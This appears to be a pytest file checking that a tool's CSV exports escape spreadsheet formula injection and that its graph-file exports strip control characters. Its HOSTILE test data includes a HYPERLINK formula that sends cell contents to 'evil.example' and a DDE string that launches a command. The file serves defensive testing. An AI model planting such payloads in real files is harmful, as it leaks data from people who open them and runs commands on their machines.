"""Exports stay valid and harmless whatever the text holds (issue 11, items 4 and 5).

GraphML/GEXF with a control character in a label were not well-formed XML; CSV cells starting with
``=``, ``+``, ``-`` or ``@`` opened as formulas in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import networkx as nx
import pytest

from declass.export import export
from declass.export.tables import read_csv
from declass.model import Entity, make_id

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "web"))
from webstore import build_store  # noqa: E402

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': "ORG",
    "+CMD|' /C calc'!A0": "ORG",
    "-2+3": "ORG",
    "@SUM(1+1)": "ORG",
    "\t=1+1": "ORG",
    "Asocia\x02cion Cubana\x0b": "ORG",
    "Lee Harvey Os\x1bwald": "PERSON",
}


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    store = build_store(tmp_path_factory.mktemp("hostile"))
    ents = [Entity(make_id("entity", "hostile", name), etype, name, {name: 1}, [], [], []) for name, etype in HOSTILE.items()]
    store.replace_entities(ents, mention_ids=[])
    yield store
    store.close()


def test_csv_cells_never_start_a_formula(hostile_store) -> None:  # type: ignore[no-untyped-def]
    buf = io.StringIO()
    export(hostile_store, "csv", buf, table="entities")
    raw_cells = [cell for row in csv.reader(io.StringIO(buf.getvalue())) for cell in row]
    assert not [c for c in raw_cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in raw_cells
    names = {r["name"] for r in read_csv(io.StringIO(buf.getvalue()))}
    assert set(HOSTILE) <= names and "Aleksei Alekseyevich Kandaurov" in names  # the reader gives them back exactly


@pytest.mark.parametrize("table", ["mentions", "claims", "documents"])
def test_every_csv_table_is_protected(hostile_store, table: str) -> None:  # type: ignore[no-untyped-def]
    buf = io.StringIO()
    n = export(hostile_store, "csv", buf, table=table)
    cells = [cell for row in csv.reader(io.StringIO(buf.getvalue())) for cell in row]
    assert n > 0 and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("fmt, reader", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_graph_files_with_control_characters_are_well_formed(hostile_store, tmp_path: Path, fmt: str, reader) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / f"g.{fmt}"
    with open(path, "wb") as fh:
        n = export(hostile_store, fmt, fh)
    g = reader(path)
    assert g.number_of_nodes() == n
    labels = {d.get("label") for _, d in g.nodes(data=True)}
    assert {"Asociacion Cubana", "Lee Harvey Oswald", "NTS"} <= labels
    assert not any(ch in label for label in labels for ch in "\x02\x0b\x1b")
